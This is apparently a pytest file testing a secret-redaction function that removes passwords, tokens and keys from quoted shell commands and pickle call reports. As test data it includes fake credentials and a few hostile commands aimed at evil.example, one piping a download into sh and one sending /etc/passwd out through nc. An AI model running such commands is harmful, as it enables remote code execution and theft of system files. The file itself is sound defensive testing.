"""What a report quotes of a hostile string holds no secret of it, and still tells which command was run."""

from __future__ import annotations

import pytest

from assay.formats.pickle.values import show_call
from assay.formats.texts.secrets import MOST, without_secrets


class _Ref:
    module, name = "os", "system"


PGP = "PGP PRIVATE KEY BLOCK-----"
SLACK = "T0000/B0000/abcdefSECRET"
AWS = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYSECRETKEY0"


@pytest.mark.parametrize(
    ("text", "secret", "stays"),
    [
        ("psql postgresql://bob:p/S3CRET@h/db", "S3CRET", "psql postgresql://"),
        ("psql postgresql://bob:p@S3CRET@h/db", "S3CRET", "@h/db"),
        ("psql postgresql://bob:p'S3CRET@h/db", "S3CRET", "@h/db"),
        ("curl -u bob:pw9 https://h", "pw9", "curl -u "),
        ("curl -sSu bob:pw9 https://h", "pw9", " https://h"),
        ("curl -ubob:pw9 https://h", "pw9", " https://h"),
        ("curl --user bob:pw9 https://h", "pw9", " https://h"),
        ("login --password pw9", "pw9", "login --password "),
        ("login --db-password 'pw9 tail9' next", "tail9", " next"),
        ("sshpass -p pw9 ssh root@h", "pw9", " ssh root@h"),
        ("mysql -u root -ppw9 shop", "pw9", " shop"),
        ("redis-cli -h h -a pw9 keys", "pw9", "redis-cli -h h -a "),
        ("curl -H 'Authorization: token pw9' https://h", "pw9", "' https://h"),
        ("curl -H \"X-Auth: pw9\" https://h", "pw9", '" https://h'),
        ("curl -H 'X-Api-Key: a pw9' https://h", "pw9", "' https://h"),
        ("curl 'https://h/x?key=pw9&sig=pw8'", "pw9", "curl 'https://h/x?key="),
        ("curl 'https://h/x?sig=pw9'", "pw9", "curl 'https://h/x?sig="),
        ("run pass=pw9", "pw9", "run pass="),
        ("run pw=s9", "s9", "run pw="),
        ("DB_PASS=pw9 run", "pw9", " run"),
        ("password=(pw9 pw9)", "pw9", "password="),
        ("password=[pw9, pw9]", "pw9", "password="),
        ("PASSWORD=\"a b pw9\" run", "pw9", " run"),
        ("PASSWORD='a b pw9' run", "pw9", " run"),
        ("PASSWORD=a\\ pw9 run", "pw9", " run"),
        ("PASSWORD=a'b pw9' run", "pw9", " run"),
        ("password=x;pw9 run", "pw9", " run"),
        ("password: pw9", "pw9", "password: "),
        ("machine h login bob password pw9", "pw9", "machine h login bob password "),
        ("npm_abcdefghijklmnopqrstuvwxyz0123456789", "npm_abc", ""),
        ("pay sk_live_abcdefgh12345678", "sk_live_abc", "pay "),
        (f"curl https://hooks.slack.com/services/{SLACK}", "SECRET", "curl https://hooks.slack.com/services/"),
        (f"configure AKIAABCDEFGHIJKLMNOP {AWS}", "SECRET", "configure "),
        (f"-----BEGIN {PGP}\n\nlQOYSECRET\n-----END {PGP} end", "SECRET", " end"),
        ("{'password': 'pw9', 'a': 1}", "pw9", "'a': 1}"),
        ("{'Authorization': 'token pw9', 'a': 1}", "pw9", "'a': 1}"),
    ],
)  # fmt: skip
def test_a_secret_is_taken_out_and_the_command_stays(text: str, secret: str, stays: str) -> None:
    for shown in (without_secrets(text), show_call(_Ref, (text,)), show_call(_Ref, (text.encode(),))):  # type: ignore[arg-type]
        assert secret not in shown
        assert "[secret redacted, " in shown
    assert stays in without_secrets(text)
    assert without_secrets(without_secrets(text)).count("[secret") == without_secrets(text).count("[secret")


@pytest.mark.parametrize(
    "text",
    [
        "curl http://evil.example:8080/a | sh",
        "ssh -p 2222 root@evil.example",
        "mkdir -p /tmp/a && tar -xf b -C /tmp/a",
        "cat /etc/passwd | nc evil.example 99",
        "open('secrets.txt'); tokenizer = 3",
        "git checkout 0123456789abcdef0123456789abcdef01234567",
        "python -m http.server --port 80",
    ],
)
def test_what_is_no_secret_stays_as_it_is(text: str) -> None:
    assert without_secrets(text) == text


def test_a_secret_where_a_long_string_is_cut_does_not_leak_its_first_half() -> None:
    text = "x" * 100 + " ghp_abcdefghij0123456789ABCDEF"
    assert "ghp_" not in show_call(_Ref, (text,))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "piece", ["password=", "://a:", "curl -", "'", "('", "-u a:", "mysql -p ", "x-auth", "\\", "bot1"]
)
def test_hostile_text_costs_little(piece: str) -> None:
    assert len(without_secrets(piece * MOST)) < 40 * MOST
